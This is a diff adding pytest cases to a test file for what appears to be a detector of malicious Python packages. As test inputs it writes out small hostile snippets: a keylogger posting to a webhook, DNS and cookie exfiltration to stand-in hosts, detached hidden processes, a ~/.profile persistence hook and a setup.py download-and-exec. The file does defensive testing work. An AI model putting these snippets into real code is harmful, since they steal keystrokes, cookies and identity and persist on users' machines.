@@ -388,3 +388,39 @@ def test_threats_in_package_init_at_import_count_single_secrets() -> None:
     """
     assert types(source, INIT) == {"exfiltration"}
     assert types(source) == set()  # the same helper in a module nobody calls at import
+
+
+# --- chains added from the development set -------------------------------------------------
+
+@pytest.mark.parametrize(("source", "kind", "role"), [
+    # keystrokes from a keyboard hook, buffered in a module list, posted to a webhook
+    ("import requests\nfrom pynput import keyboard\nHOOK = 'https://discord.com/api/webhooks/1/x'"
+     "\nbuf = []\ndef on_press(key):\n    buf.append(str(key))\n"
+     "    requests.post(HOOK, json={'c': ''.join(buf)})\n"
+     "keyboard.Listener(on_press=on_press).start()\n", "exfiltration", FileRole.MODULE),
+    # the user and host name interpolated into a DNS lookup at install time
+    ("import subprocess\nsubprocess.run('nslookup `whoami`.`hostname`.b.example.invalid',"
+     " shell=True)\n", "exfiltration", INSTALL),
+    # inline Python started windowless and detached, decoding a stage
+    ("import subprocess, sys\nP = \"import base64;exec(base64.b64decode('aWQ='))\"\n"
+     "subprocess.Popen([sys.executable, '-c', P], creationflags=0x08000000,"
+     " start_new_session=True)\n", "hidden-process", INIT),
+    # a program shipped in the package started detached when the package is imported
+    ("import os, subprocess\nsubprocess.Popen(os.path.join(os.path.dirname(__file__), 'bin'),"
+     " start_new_session=True)\n", "hidden-process", INIT),
+    # ~/.profile appended through pathlib
+    ("from pathlib import Path\nstartup = Path.home() / '.s.py'\nstartup.write_text(CODE)\n"
+     "with (Path.home() / '.profile').open('a') as h:\n"
+     "    h.write(f'export PYTHONSTARTUP={startup}')\n", "persistence", INIT),
+    # browser cookies read with a cookie library and posted
+    ("import browser_cookie3, requests\nc = [x.value for x in browser_cookie3.chrome()]\n"
+     "requests.post('https://example.invalid/c', json=c)\n", "exfiltration", FileRole.MODULE),
+])
+def test_development_set_chains(source: str, kind: str, role: FileRole) -> None:
+    assert kind in types(source, role)
+
+
+def test_threats_in_setup_py_are_also_install_time_payloads() -> None:
+    found = types("import os, requests\nexec(requests.get('https://example.invalid/s').text)\n",
+                  INSTALL)
+    assert {"download-exec", "install-time-payload"} <= found
